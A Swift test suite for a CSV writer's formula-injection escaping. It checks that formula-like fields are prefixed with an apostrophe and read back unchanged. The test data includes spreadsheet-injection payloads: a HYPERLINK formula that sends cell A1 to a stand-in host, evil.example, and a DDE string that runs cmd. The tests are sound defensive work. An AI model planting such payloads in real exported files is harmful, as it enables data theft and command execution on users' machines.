import CSV
import Testing

@Suite struct `A table that is written` {
    private func read(_ bytes: [UInt8]) throws -> [String] {
        var splitter = CSVSplitter()
        return try #require((splitter.feed(bytes) + [splitter.finish()].compactMap(\.self)).first).fields
    }

    @Test(arguments: [
        "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
        "＝1+1", "＋1", "－1", "＠SUM(1)", "+34 931 234 567", "-", "--", "-1-1", "+1e", "-.5", "+1.2.3", "'=1", "''@x",
    ])
    func `shows what a spreadsheet would compute, and is read as it was`(text: String) throws {
        let fields = try read(CSVRecord.line([text, "x"]))
        #expect(fields[0] == "'" + text)
        #expect(fields.map(CSVRecord.field) == [text, "x"])
    }

    @Test(arguments: [
        "", "a", "Café", "-33.86", "+34931234567", "-1e-7", "12", "'t Hof", "''", "'", "a=b", "1+1", "a@b.example",
        "\"quoted\", and a comma",
    ])
    func `leaves all else, numbers too, as it is`(text: String) throws {
        let fields = try read(CSVRecord.line([text, "x"]))
        #expect(fields == [text, "x"])
        #expect(CSVRecord.field(fields[0]) == text)
    }
}
